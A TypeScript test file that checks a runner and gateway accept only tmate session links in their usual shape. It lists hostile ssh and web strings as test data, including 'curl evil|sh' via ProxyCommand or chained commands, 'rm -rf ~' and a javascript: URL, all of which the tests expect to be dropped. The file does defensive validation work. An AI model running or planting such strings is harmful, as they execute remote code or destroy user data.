import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { chmodSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { AssistSession, parseTmateLine } from '../../cli/runner/assist.js';
import { UsedIds } from '../../cli/runner/used-ids.js';
import type { AssistStatusBody } from '../../protocol/assist.js';
import { fakeRunner } from '../helpers/fake-runner.js';
import { startGateway, tempDir } from '../helpers/gateway.js';
import { waitFor } from '../helpers/processes.js';
import { TMATE_LINKS } from '../helpers/standins.js';

/** What a hostile (or modified) tmate could print instead of its links: each pasted into a terminal would run code. */
const HOSTILE_SSH = [
  "ssh -oProxyCommand=sh\\ -c\\ 'curl evil|sh' x@y",
  'ssh -p 2222 a@b; curl evil|sh',
  'ssh a@b $(curl evil)',
  'ssh a@b -o LocalCommand=id',
  'ssh -J evil@jump a@b',
  'ssh a@b.example.org && rm -rf ~',
];
const HOSTILE_WEB = ['https://tmate.io/t/abc?next=https://evil', 'https://evil.example/phish', 'javascript:alert(1)//https://tmate.io/t/x', 'https://tmate.io/t/abc def'];

test('the runner takes only links in tmate\'s own shape; anything else is dropped with a status line', async () => {
  for (const good of [TMATE_LINKS.ssh, TMATE_LINKS.sshReadOnly, 'ssh -p2222 abc@tmate.example.org', 'ssh -p 2222 abc@tmate.example.org', 'ssh alice/pairing@sgp1.tmate.io']) {
    const into = {};
    parseTmateLine(`ssh session: ${good}`, into);
    assert.deepEqual(into, { ssh: good }, good);
  }
  for (const bad of HOSTILE_SSH) {
    const into = {};
    const dropped: string[] = [];
    assert.equal(parseTmateLine(`ssh session: ${bad}`, into, (w) => dropped.push(w)), false, bad);
    assert.deepEqual(into, {}, bad);
    assert.deepEqual(dropped, ['ssh link'], bad);
  }
  for (const bad of HOSTILE_WEB) {
    const dropped: string[] = [];
    parseTmateLine(`web session read only: ${bad}`, {}, (w) => dropped.push(w));
    assert.deepEqual(dropped, ['web read-only link'], bad);
  }

  // A tmate that prints a ProxyCommand link: the session never counts as open, and the owner is told.
  const dir = tempDir();
  const bin = join(dir, 'tmate');
  writeFileSync(bin, ['#!/bin/sh', `echo "web session: ${TMATE_LINKS.web}"`, `echo "ssh session: ${HOSTILE_SSH[0]!.replace(/(["$`\\])/g, '\\$1')}"`, 'exec sleep 30', ''].join('\n'));
  chmodSync(bin, 0o755);
  const reports: AssistStatusBody[] = [];
  const status: string[] = [];
  const s = new AssistSession({
    maxMinutes: 5, tmateBin: bin, cwd: tempDir(), env: { PATH: process.env['PATH'] }, usedIds: new UsedIds(join(tempDir(), 'ids')),
    event: () => undefined, report: (b) => reports.push(b), status: (l) => status.push(l), startTimeoutMs: 1000,
  });
  s.handle({ type: 'assist', requestId: randomBytes(16).toString('base64url'), action: 'start' });
  const failed = await waitFor(() => reports.find((r) => r.state === 'failed'), 10_000, 'the start to fail');
  assert.equal(failed.links, null);
  assert.ok(!reports.some((r) => r.state === 'active'));
  assert.ok(status.some((l) => /ignored tmate's ssh link: it is not in tmate's usual shape/.test(l)), status.join('\n'));
  assert.ok(!JSON.stringify(reports).includes('ProxyCommand'));
});

test('the gateway checks the links again: a runner reporting other shapes has them dropped, not shown to operators', async (t) => {
  const g = await startGateway();
  t.after(() => g.close());
  const { run, token } = await g.gw.runs.create('assist', 'test');
  const runner = await fakeRunner(g, run.id, token, { assist: { maxMinutes: 30 } });
  t.after(() => runner.close());
  const report = (links: unknown) => runner.ws.send(JSON.stringify({ type: 'assist_status', requestId: null, state: 'active', links, expiresAt: Date.now() + 60_000, reason: null }));

  report(TMATE_LINKS);
  await waitFor(() => (g.gw.assist.get(run.id)?.links?.ssh === TMATE_LINKS.ssh ? true : undefined), 5000, 'tmate links kept');

  report({ ...TMATE_LINKS, ssh: HOSTILE_SSH[1] });
  const dropped = await waitFor(() => (g.gw.assist.get(run.id)?.links === null ? g.gw.assist.get(run.id)! : undefined), 5000, 'links dropped');
  assert.match(dropped.reason ?? '', /not in tmate's shape/);

  report({ ...TMATE_LINKS, webReadOnly: HOSTILE_WEB[0] });
  const partial = await waitFor(() => {
    const a = g.gw.assist.get(run.id);
    return a?.links?.ssh === TMATE_LINKS.ssh ? a : undefined;
  }, 5000, 'the good links kept');
  assert.equal(partial.links?.webReadOnly, null);
  assert.equal(partial.links?.web, TMATE_LINKS.web);
});

test('a runner that offered no assist sessions in its hello cannot report one: refused, and no links reach operators', async (t) => {
  const g = await startGateway();
  t.after(() => g.close());
  const { run, token } = await g.gw.runs.create('no assist', 'test');
  const runner = await fakeRunner(g, run.id, token);
  t.after(() => runner.close());
  // It may refuse a request (an operator's stop reaches it): not an error.
  runner.ws.send(JSON.stringify({ type: 'assist_status', requestId: null, state: 'refused', links: null, expiresAt: null, reason: 'assist sessions are off' }));
  runner.ws.send(JSON.stringify({ type: 'assist_status', requestId: null, state: 'active', links: TMATE_LINKS, expiresAt: Date.now() + 60_000, reason: null }));
  const refused = await runner.next('error');
  assert.match(JSON.stringify(refused), /assist_status active from a runner that offered no assist sessions/);
  assert.equal(g.gw.assist.get(run.id), null);
});
